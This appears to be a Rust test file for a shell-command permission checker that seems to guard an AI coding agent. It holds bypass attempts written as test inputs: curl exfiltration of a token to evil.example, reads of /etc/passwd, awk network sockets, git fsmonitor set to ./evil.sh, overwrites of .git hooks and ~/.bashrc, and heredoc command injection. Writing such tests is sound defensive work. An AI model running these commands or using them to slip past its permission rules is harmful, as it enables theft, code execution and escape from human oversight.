//! What a second review found: links and folders that decide what is written, commands that change
//! them first, and options that the rule itself has.

use std::fs;

use super::super::{Budget, CommandRule, Script, Surroundings};
use super::{all_allowed, all_asked};

/// Where links are, and where they lead.
type Links = [(&'static str, &'static str)];

/// Judges a command in a folder with these files and links.
fn check_among(files: &[&str], links: &Links, rules: &str, command: &str) -> Result<(), String> {
    let folder = tempfile::tempdir().expect("a folder");
    let top = folder.path().canonicalize().expect("a folder");
    let parent = |path: &std::path::Path| {
        fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
    };
    for file in files {
        // Behind `=` stands what is in it.
        let (name, text) = file.split_once('=').unwrap_or((file, ""));
        parent(&top.join(name));
        fs::write(top.join(name), text).expect("a file");
    }
    for (link, target) in links {
        parent(&top.join(link));
        std::os::unix::fs::symlink(target, top.join(link)).expect("a link");
    }
    let rules: Vec<CommandRule> = rules.split(" + ").filter_map(CommandRule::read).collect();
    let command = command.replace("TOP", &top.display().to_string());
    Script::read(&command).check(&rules, &Surroundings::new(top), &Budget::default())
}

#[test]
fn a_setting_is_only_shown() {
    all_asked(&[
        ("git:*", "git config core.fsmonitor ./evil.sh --get"),
        ("git config:*", "git config core.fsmonitor ./evil.sh -l"),
        ("git config:*", "git config core.fsmonitor --list ./evil.sh"),
        ("git config:*", "git config --get --no-get core.fsmonitor x"),
        ("git config:*", "git config --no-list --get a.b c"),
        ("git config:*", "git config --get a.b --global"),
        ("git config:*", "git config edit"),
        ("git:*", "git restore --staged --no-staged src"),
        ("git restore:*", "git restore -S --no-staged src"),
        ("git add:*", "git add --dry-run --no-dry-run x"),
        ("git tag:*", "git tag --local key x"),
    ]);
    all_allowed(&[
        ("git config:*", "git config --get user.name"),
        ("git config:*", "git config --global --get-regexp ^user x"),
        ("git config:*", "git config --show-origin user.name"),
        ("git config:*", "git config --list"),
        ("git tag:*", "git tag --list 'v1.*'"),
        ("git merge:*", "git merge --no-ff --no-edit x"),
    ]);
}

#[test]
fn the_next_line_stands_in_the_folder_of_the_session() {
    all_asked(&[
        ("cd:*", "cd .git"),
        ("cd:*", "cd /usr"),
        ("cd:*", "cd src"),
        ("cd:*", "cd .."),
        ("cd:*", "cd"),
        ("cd:*", "cd +1"),
        ("cd:* + ls:*", "cd .git && ls"),
        ("cd:* + ls:*", "cd src && ls"),
        ("command cd:*", "command cd src"),
        ("command -p cd:*", "command -p cd src"),
        ("pushd src", "pushd src"),
        ("popd", "popd"),
    ]);
    all_allowed(&[("echo:*", "echo cd"), ("grep:*", "grep cd src/a")]);
}

#[test]
fn links_and_folders_decide_what_is_written() {
    const GIT: &[&str] = &[
        ".git/config",
        ".git/hooks/x",
        "src/c",
        "src/d/e",
        "vendor/evil/.git/config",
    ];
    let asked: &[(&Links, &str, &str)] = &[
        (&[("sub/c", "../.git/config")], "cp:*", "cp src/c sub"),
        (&[("sub/c", "../.git/config")], "cp:*", "cp src/c sub/"),
        (&[("sub/c", "../.git/config")], "cp src/c:*", "cp src/c sub"),
        (&[("sub/c", "../.git/config")], "cp:*", "cp a src/c src sub"),
        (&[("sub/d/e", "../../.git/x")], "cp -r:*", "cp -r src/d sub"),
        (&[("sub/e", "../.git/x")], "cp -r:*", "cp -r src/d/. sub"),
        (&[("sub/c", "../.git/x")], "cp -t:*", "cp -t sub src/c"),
        (&[("sub/c", "../.git/x")], "cp -t sub:*", "cp -t sub src/c"),
        (
            &[("sub/c", "../.git/x")],
            "cp --target-directory=sub:*",
            "cp --target-directory=sub src/c",
        ),
        (&[], "cp -r:*", "cp -r src/d/. ."),
        (&[], "cp:*", "cp src/c ."),
        (&[], "rm -rf:*", "rm -rf TOP"),
        (&[], "rm -rf:*", "rm -rf ."),
        (&[], "rm -rf:*", "rm -rf src/.."),
        // Options that the rule itself has.
        (&[], "sed -i:*", "sed -i s/a/b/ .git/hooks/x"),
        (&[], "sed -i:*", "sed -i s/a/b/ ~/.bashrc"),
        (&[], "sed -i -e s/a/b/:*", "sed -i -e s/a/b/ /etc/x"),
        (
            &[("l", ".git/hooks")],
            "sed -i:*",
            "sed -i s/a/b/ src/c l/x",
        ),
        (&[], "sed -i '':*", "sed -i '' 'w src/x' src/c"),
        (&[], "curl -o:*", "curl -o ~/.bashrc https://h.example"),
        (
            &[],
            "curl -sSLo:*",
            "curl -sSLo .git/config https://h.example",
        ),
        // An option that is not listed may write the file that an address names.
        (&[], "curl -O:*", "curl -O https://h.example/.envrc?x"),
        (&[], "curl -O -s:*", "curl -O -s https://h.example/.envrc?x"),
        (&[], "curl -JOo:*", "curl -JOo x https://h.example"),
        (&[], "curl:*", "curl file:/etc/passwd"),
        (&[], "curl:*", "curl FILE:x"),
        (&[], "curl:*", "curl 'fil[e-e]:/etc/passwd'"),
        // A folder moves with everything in it.
        (&[], "mv:*", "mv vendor/evil sub"),
        (&[], "mv:*", "mv -T vendor/evil/ sub"),
        (&[], "mv:*", "mv src/c vendor sub"),
        (&[], "mv -t:*", "mv -t sub vendor"),
        (&[], "git mv:*", "git mv vendor sub"),
        // `HEAD`, `objects` and `refs` make a folder a repository.
        (&[], "cp:*", "cp src/c HEAD"),
        (&[], "cp:*", "cp src/c src/d/head"),
        (&[], "touch:*", "touch HEAD"),
        (&[], "mv:*", "mv src/c HEAD"),
        (&[], "ln:*", "ln -s src/c HEAD"),
        (&[], "sort -o:*", "sort -o .envrc src/c"),
        (&[], "git log --output:*", "git log --output .git/config"),
        (&[], "git log --output:*", "git log --output HEAD"),
        (&[], "git archive -o:*", "git archive -o /etc/x HEAD"),
        (&[], "prettier --write:*", "prettier --write src .claude/x"),
        // A link that git would follow.
        (&[("l", "/")], "git add:*", "git add l/x"),
    ];
    for (links, rules, command) in asked {
        assert!(
            check_among(GIT, links, rules, command).is_err(),
            "{links:?} {command}"
        );
    }
    for (rules, command) in [
        ("cp:*", "cp src/c sub"),
        ("cp:*", "cp src/c src/d"),
        ("cp -r:*", "cp -r src/d sub"),
        ("rm -rf:*", "rm -rf src/d TOP/src/c"),
        ("sed -i:*", "sed -i '/a/d' src/c"),
        ("curl -o:*", "curl -o out.json https://h.example"),
        ("curl -sSLo:*", "curl -sSLo out.json https://h.example"),
        (
            "curl --output:*",
            "curl --output out.json https://h.example",
        ),
        ("curl:*", "curl localhost:8080/x?a=b:c"),
        ("mv:*", "mv src/d sub"),
        ("mv:*", "mv src/c src/d sub"),
        ("git mv:*", "git mv src/d sub"),
        ("git reset --hard:*", "git reset --hard HEAD"),
        ("git push --force:*", "git push --force origin main"),
        ("prettier --write:*", "prettier --write src"),
    ] {
        let judged = check_among(GIT, &[], rules, command);
        assert_eq!(judged, Ok(()), "{command}");
    }
}

#[test]
fn files_that_a_line_changes_are_not_looked_at_again() {
    const RULES: &str = "git:* + mv:* + ln:* + cp:* + mkdir:* + tar xf x.tar + timeout 5 mv:*";
    let files = &["src/evil.git/x", "a/b"];
    let links = &[("a/l", ".git")];
    for command in [
        "ln -s src/evil.git x && git push x HEAD:refs/heads/y",
        "mv src/evil.git x && git push x HEAD:refs/heads/y",
        "mv src/evil.git origin; git push origin main",
        "timeout 5 mv src/evil.git x && git push x main",
        "cp a/b a/c && git add a",
        "git push x main | ln -s src/evil.git x",
        "mkdir y\ngit checkout main",
        "tar xf x.tar && cp a/b c/d",
        "git clone https://h.example/x && git push x main",
        "git checkout evil && git push x main",
        "git pull origin main && cp a/b c/d",
        "git stash pop && git add -A",
        "ln -s a/b c && cd TOP && git add -A",
    ] {
        assert!(
            check_among(files, links, RULES, command).is_err(),
            "{command}"
        );
    }
    for command in [
        "git add -A && git commit -m x && git push origin main",
        "git checkout -b x && git add -A && git push -u origin x",
        "git switch -c x && git push origin x",
        "mv a/b a/c && git status && git commit -am x",
        "git fetch origin && git checkout main",
    ] {
        let judged = check_among(files, links, RULES, command);
        assert_eq!(judged, Ok(()), "{command}");
    }
}

#[test]
fn a_file_of_ignored_names_is_read_as_git_reads_it() {
    let asked: &[(&[&str], &Links)] = &[
        (
            &[".gitignore=sub", "a/.gitignore=!sub", "a/sub/.git/x"],
            &[],
        ),
        (&[".gitignore=sub\t", "sub/.git/x"], &[]),
        (&[".gitignore=sub//", "sub/.git/x"], &[]),
        (&[".gitignore=//sub", "sub/.git/x"], &[]),
        (&[".gitignore=sub \n", "sub/.git/x"], &[]),
        (&[".gitignore=#sub", "sub/.git/x"], &[]),
        (&[".gitignore=sub\n!/sub", "sub/.git/x"], &[]),
        (&["ignored=sub", "sub/.git/x"], &[(".gitignore", "ignored")]),
    ];
    for (files, links) in asked {
        let judged = check_among(files, links, "git add:*", "git add -A");
        assert!(judged.is_err(), "{files:?}");
    }
    for text in ["sub", "/sub", "sub/", "/sub/", "x\nsub\r\ny"] {
        let files = [&*format!(".gitignore={text}"), ".git/x", "sub/y/.git/x"];
        let judged = check_among(&files, &[], "git add:*", "git add -A");
        assert_eq!(judged, Ok(()), "{text:?}");
    }
}

#[test]
fn addresses_are_those_that_the_rule_means() {
    const GOOD: &str = "curl https://api.good.example/v1:*";
    let with = |rest: &str| format!("curl https://api.good.example/v1 {rest}");
    for rest in [
        "https://evil.example -d token",
        "evil.example",
        "-d token evil.example",
        "-dtoken evil.example",
        "-s evil.example",
        "--silent evil.example",
        "file:///etc/passwd",
        "gopher://evil.example",
        "-- evil.example",
    ] {
        assert!(super::check(GOOD, &with(rest)).is_err(), "{rest}");
    }
    for rest in ["-d token", "-sX POST", "--header 'A: b' --data x", "-dx -s"] {
        assert_eq!(super::check(GOOD, &with(rest)), Ok(()), "{rest}");
    }
    all_asked(&[
        ("curl:*", "curl file:///etc/passwd"),
        ("curl:*", "curl -s gopher://evil.example"),
        ("git pull:*", "git pull https://evil.example/fork.git main"),
        ("git pull:*", "git pull git@evil.example:fork.git"),
        ("git clone:*", "git clone https://evil.example/a:.claude"),
        ("git clone:*", "git clone git@h.example:.claude.git"),
        ("git clone:*", "git clone git@h.example:.claude"),
        ("awk '{print}':*", "awk '{print}' /inet/tcp/0/evil/80"),
        ("awk -F, '{print}':*", "awk -F, '{print}' /inet4/tcp/0/h/80"),
        // Old versions of bash end the substitution at the first bracket.
        ("echo:*", "echo \"$(cat <<'E'\nx ) $(id)\nE\n)\""),
        ("echo:*", "echo \"$(cat <<'E'\nx ) `id`\nE\n)\""),
        ("echo:*", "echo \"$(cat <<'E'\nx ) \"; id; \"\nE\n)\""),
    ]);
    all_allowed(&[
        ("curl:*", "curl -H 'Origin: file://x' https://h.example"),
        ("curl -X POST:*", "curl -X POST https://h.example"),
        ("git pull:*", "git pull origin main"),
        ("git clone:*", "git clone git@h.example:me/x.git"),
        ("awk '{print}':*", "awk '{print}' src/a"),
        ("echo:*", "echo \"$(cat <<'E'\nfix(x): it's\nE\n)\""),
    ]);
}
